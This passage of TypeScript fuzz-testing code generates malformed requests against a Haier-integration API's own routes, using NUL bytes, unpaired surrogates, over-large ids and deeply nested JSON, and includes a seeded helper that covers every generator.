  'GET /api/haier/catalog/products/{code}/': [(c) => ({ route: '', why: 'NUL in the code', method: 'GET', url: `${API}/catalog/products/${c.pick(['%00', 'GA0SZC00U%00', 'A%00B'])}/` })],
  'GET /api/haier/sync/': [
    (c) => ({ route: '', why: 'run cursor past bigint or not an id', method: 'GET', url: `${API}/sync/?${q({ cursor: c.pick(BAD_RUN_CURSORS) })}` }),
    (c) => ({ route: '', why: 'NUL in a filter', method: 'GET', url: `${API}/sync/?${c.pick(['cursor', 'status', 'since', 'include'])}=${unstorableQuery(c)}` }),
  ],
  'GET /api/haier/sync/{id}/': [(c) => ({ route: '', why: 'id past bigint', method: 'GET', url: `${API}/sync/${c.pick(PAST_BIGINT)}/` })],
  'POST /api/haier/sync/{id}/cancel/': [(c) => ({ route: '', why: 'id past bigint', method: 'POST', url: `${API}/sync/${c.pick(PAST_BIGINT)}/cancel/` })],
  'GET /api/haier/sync/{id}/events/': [(c) => ({ route: '', why: 'id past bigint', method: 'GET', url: `${API}/sync/${c.pick(PAST_BIGINT)}/events/` })],
  'POST /api/haier/sync/': [
    (c) => ({ route: '', why: 'NUL/surrogate in scope text', method: 'POST', url: `${API}/sync/`, ...json({ mode: 'INCREMENTAL', scope: { [c.pick(['category', 'brand'])]: c.pick(UNSTORABLE) } }) }),
    (c) => ({ route: '', why: 'NUL in a scope code', method: 'POST', url: `${API}/sync/`, ...json({ mode: 'INCREMENTAL', scope: { product_codes: ['GA0SZC00U', c.pick(UNSTORABLE)] } }) }),
    (c) => ({ route: '', why: 'deep JSON', method: 'POST', url: `${API}/sync/`, ...json({ mode: 'BOGUS', scope: deepDoc(c) }) }),
  ],
  'POST /api/haier/config/': [
    (c) => ({ route: '', why: 'NUL/surrogate in a setting value', method: 'POST', url: `${API}/config/`, ...json({ name: 'fz-nul', environment: 'test', settings: { base_url: 'http://127.0.0.1:9', customer_code: c.pick(UNSTORABLE), nested: { note: c.pick(UNSTORABLE) } } }) }),
    (c) => ({ route: '', why: 'NUL in a setting key', method: 'POST', url: `${API}/config/`, ...json({ name: 'fz-nulkey', environment: 'test', settings: { [`k${c.pick(UNSTORABLE)}`]: 'v' } }) }),
    (c) => ({ route: '', why: 'NUL in the name', method: 'POST', url: `${API}/config/`, ...json({ name: `fz${c.pick(UNSTORABLE)}`, environment: 'test', settings: {} }) }),
    (c) => ({ route: '', why: 'settings nested too deep', method: 'POST', url: `${API}/config/`, ...json({ name: 'fz-deep', environment: 'test', settings: { deep: deepDoc(c) } }) }),
  ],
  'PUT /api/haier/config/{id}/': [
    (c) => ({ route: '', why: 'NUL in a setting value', method: 'PUT', url: `${API}/config/${c.configId}/`, ...json({ name: 'fz', environment: 'test', settings: { customer_code: c.pick(UNSTORABLE) } }) }),
    (c) => ({ route: '', why: 'settings nested too deep', method: 'PUT', url: `${API}/config/${c.configId}/`, ...json({ name: 'fz', environment: 'test', settings: { deep: deepDoc(c) } }) }),
    (c) => ({ route: '', why: 'id past bigint', method: 'PUT', url: `${API}/config/${c.pick(PAST_BIGINT)}/`, ...json({ name: 'x', environment: 'test', settings: {} }) }),
  ],
  'DELETE /api/haier/config/{id}/': [(c) => ({ route: '', why: 'id past bigint', method: 'DELETE', url: `${API}/config/${c.pick(PAST_BIGINT)}/` })],
  'POST /api/haier/config/{id}/activate/': [(c) => ({ route: '', why: 'id past bigint', method: 'POST', url: `${API}/config/${c.pick(PAST_BIGINT)}/activate/` })],
  'GET /api/haier/audit/': [
    (c) => ({ route: '', why: 'NUL in a filter', method: 'GET', url: `${API}/audit/?${c.pick(['key_name', 'path', 'since', 'cursor'])}=${unstorableQuery(c)}` }),
    (c) => ({ route: '', why: 'cursor past bigint', method: 'GET', url: `${API}/audit/?${q({ cursor: c.pick(PAST_BIGINT) })}` }),
  ],
  'GET /api/haier/stock/': [(c) => ({ route: '', why: 'NUL in a code', method: 'GET', url: `${API}/stock/?product_code=${unstorableQuery(c)}&county_code=110101` })],
  'GET /api/haier/products/': [(c) => ({ route: '', why: 'NUL in the code list', method: 'GET', url: `${API}/products/?product_codes=GA0SZC00U,${unstorableQuery(c)}` })],
  'GET /api/haier/logistics/': [(c) => ({ route: '', why: 'NUL in the order code', method: 'GET', url: `${API}/logistics/?order_code=${unstorableQuery(c)}` })],
  'PUT /api/haier/catalog/products/{code}/pinned-price/': [(c) => ({ route: '', why: 'NUL in the price', method: 'PUT', url: `${API}/catalog/products/${c.code}/pinned-price/`, ...json({ price: `10.00${c.pick(UNSTORABLE)}` }) })],
  'POST /api/haier/keys/': [
    (c) => ({ route: '', why: 'NUL in the name', method: 'POST', url: `${API}/keys/`, ...json({ name: `fz${c.pick(UNSTORABLE)}`, role: 'viewer' }) }),
    (c) => ({ route: '', why: 'deep JSON', method: 'POST', url: `${API}/keys/`, ...json({ name: 'fz-deep', role: 'viewer', x: deepDoc(c) }) }),
  ],
  'DELETE /api/haier/keys/{id}/': [(c) => ({ route: '', why: 'NUL in the name', method: 'DELETE', url: `${API}/keys/${c.pick(['%00', 'stack-viewer%00', 'a%00b'])}/` })],
};
for (const [route, gens] of Object.entries(HOSTILE)) (GENERATORS[route] ??= []).push(...gens);

/** Requests that carry their own (bad) credentials; every other case gets the admin key. */
export const OWN_AUTH = new Set(['auth header']);

/**
 * `n` malformed requests: first one of each generator (so every route and fault is covered),
 * then generators picked at random; all from `seed`.
 */
export function malformedRequests(seed: number, n: number, ctx: { code: string; configId: number }): FuzzRequest[] {
  const r = rng(seed);
  const c: Ctx = { ...ctx, pick: <T>(xs: readonly T[]) => xs[Math.floor(r() * xs.length)] as T };
  const all = Object.entries(GENERATORS).flatMap(([route, gens]) => gens.map((g) => ({ route, g })));
  const out: FuzzRequest[] = all.map(({ route, g }) => ({ ...g(c), route }));
  while (out.length < n) {
    const { route, g } = all[Math.floor(r() * all.length)] as (typeof all)[number];
    out.push({ ...g(c), route });
  }
  return out;
}
